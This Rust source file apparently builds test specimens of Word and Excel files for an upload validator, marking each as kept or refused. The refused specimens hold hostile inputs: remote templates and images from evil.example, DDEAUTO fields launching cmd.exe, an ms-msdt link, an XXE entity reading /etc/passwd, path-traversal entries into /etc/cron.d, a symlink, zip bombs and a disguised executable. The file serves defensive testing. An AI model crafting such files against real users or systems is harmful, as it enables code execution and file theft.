//! Word documents and Excel workbooks.

use super::{Specimen, kept, refused};
use std::io::{Cursor, Write};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const EXCEL: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const RELATIONSHIPS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A package of these parts.
struct Package(ZipWriter<Cursor<Vec<u8>>>);

impl Package {
    fn empty() -> Self {
        Self(ZipWriter::new(Cursor::new(Vec::new())))
    }

    fn word() -> Self {
        Self::of(WORD, "word/document.xml", "<w:document xmlns:w='w'><w:body><w:p><w:r><w:t>Report</w:t></w:r></w:p></w:body></w:document>")
    }

    fn excel() -> Self {
        Self::of(EXCEL, "xl/workbook.xml", "<workbook><sheets/></workbook>")
    }

    fn of(kind: &str, main: &str, content: &str) -> Self {
        Self::empty()
            .with("[Content_Types].xml", format!("<Types><Override PartName='/{main}' ContentType='{kind}'/></Types>").as_bytes())
            .with("_rels/.rels", relationship("officeDocument", main, "").as_bytes())
            .with(main, content.as_bytes())
    }

    fn with(mut self, name: &str, content: &[u8]) -> Self {
        self.0.start_file(name, SimpleFileOptions::default()).expect("a part");
        self.0.write_all(content).expect("memory");
        self
    }

    fn linked(mut self, name: &str, target: &str) -> Self {
        self.0.add_symlink(name, target, SimpleFileOptions::default()).expect("a link");
        self
    }

    fn bytes(self) -> Vec<u8> {
        self.0.finish().expect("a package").into_inner()
    }
}

fn relationship(kind: &str, target: &str, more: &str) -> String {
    format!("<Relationships><Relationship Id='r1' Type='{RELATIONSHIPS}/{kind}' Target='{target}' {more}/></Relationships>")
}

fn external(kind: &str, target: &str) -> Vec<u8> {
    let relationships = relationship(kind, target, "TargetMode='External'");
    Package::word().with("word/_rels/document.xml.rels", relationships.as_bytes()).bytes()
}

fn field(instruction: &str) -> Vec<u8> {
    Package::of(WORD, "word/document.xml", instruction).bytes()
}

pub fn specimens() -> Vec<Specimen> {
    let word = Package::word().bytes();
    let macros = WORD.replace("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled");
    let mut before = b"GIF89a".to_vec();
    before.extend_from_slice(&word);
    let mut many = Package::word();
    for n in 0..1000 {
        many = many.with(&format!("word/media/{n}.txt"), b"x");
    }
    let zeros = vec![b' '; 40 * 1024 * 1024];
    let nested = Package::empty().with("42.zip", &Package::empty().with("zeros", &zeros[..1024 * 1024]).bytes()).bytes();
    // The name is written anew in both places where it stands; the letters stay as many.
    let renamed = |from: &str, to: &str| {
        let bytes = Package::word().with(from, b"x").bytes();
        let mut out = bytes.clone();
        for at in 0..bytes.len() - from.len() {
            if bytes[at..].starts_with(from.as_bytes()) {
                out[at..at + from.len()].copy_from_slice(to.as_bytes());
            }
        }
        out
    };
    vec![
        kept("a Word document", "report.docx", word.clone()),
        kept("an Excel workbook", "numbers.xlsx", Package::excel().bytes()),
        kept("a Word document with a link to a page", "report.docx", external("hyperlink", "https://www.ncmd.info/")),
        refused("a document with macros under another ending", "a.docx", Package::of(&macros, "word/document.xml", "<w/>").bytes(), "macros"),
        refused("macros in a document that does not tell of them", "a.docx", Package::word().with("word/vbaProject.bin", b"x").bytes(), "macros"),
        refused("a workbook with old macros", "a.xlsx", Package::excel().with("xl/macrosheets/sheet1.xml", b"<x/>").bytes(), "macros"),
        refused(
            "a workbook with links to other workbooks",
            "a.xlsx",
            Package::excel().with("xl/externalLinks/externalLink1.xml", b"<x/>").bytes(),
            "external_content",
        ),
        refused("a template fetched from elsewhere", "a.docx", external("attachedTemplate", "https://evil.example/t.dotm"), "external_content"),
        refused("a picture fetched from elsewhere", "a.docx", external("image", "https://evil.example/x.png"), "external_content"),
        refused("a link that runs a script", "a.docx", external("hyperlink", "javascript:alert(1)"), "external_content"),
        refused("a link that starts a program of the system", "a.docx", external("hyperlink", "ms-msdt:/id PCWDiagnostic"), "external_content"),
        refused("an object of another program", "a.docx", Package::word().with("word/embeddings/oleObject1.bin", b"x").bytes(), "embedded_file"),
        refused(
            "a compound file under the name of a picture",
            "a.docx",
            Package::word().with("word/media/image1.png", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1").bytes(),
            "embedded_file",
        ),
        refused("a program inside", "a.docx", Package::word().with("word/media/image1.png", b"MZ\x90\x00\x03\x00\x00\x00").bytes(), "embedded_file"),
        refused("controls of a page", "a.docx", Package::word().with("word/activeX/activeX1.xml", b"<x/>").bytes(), "active_content"),
        refused(
            "a field that starts a program",
            "a.docx",
            field("<w><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w>"),
            "external_content",
        ),
        refused("a field that starts a program, told in short", "a.docx", field("<w><w:fldSimple w:instr='DDEAUTO cmd'/></w>"), "external_content"),
        refused(
            "definitions that read other files",
            "a.docx",
            field("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
            "active_content",
        ),
        refused("a way up in a package", "a.docx", Package::word().with("../../../etc/cron.d/x", b"x").bytes(), "unsafe_path"),
        refused("a way up as Windows writes it", "a.docx", renamed("word/aaaaaaa", "..\\..\\aaaaaa"), "unsafe_path"),
        refused("a place at the root", "a.docx", Package::word().with("/etc/cron.d/x", b"x").bytes(), "unsafe_path"),
        refused("a link to another place", "a.docx", Package::word().linked("word/media/x", "/etc/passwd").bytes(), "link_inside"),
        refused("an archive inside a document", "a.docx", Package::word().with("word/media/x.zip", &nested).bytes(), "archive_inside"),
        refused("archives inside archives under the name of a document", "a.docx", nested, "archive_inside"),
        refused(
            "a thousand times larger when unpacked",
            "a.xlsx",
            Package::excel().with("xl/worksheets/sheet1.xml", &zeros).bytes(),
            "unpacks_too_large",
        ),
        refused("more than a thousand parts", "a.docx", many.bytes(), "too_many_parts"),
        refused("a workbook under the name of a document", "a.docx", Package::excel().bytes(), "wrong_package"),
        refused("an archive under the name of a document", "a.docx", Package::empty().with("x.txt", b"x").bytes(), "wrong_package"),
        refused("a picture in front of a document", "a.docx", before, "content_mismatch"),
        refused("a document with a password", "a.docx", &b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0"[..], "encrypted"),
        refused("a document cut short", "a.docx", &word[..word.len() - 30], "damaged"),
    ]
}
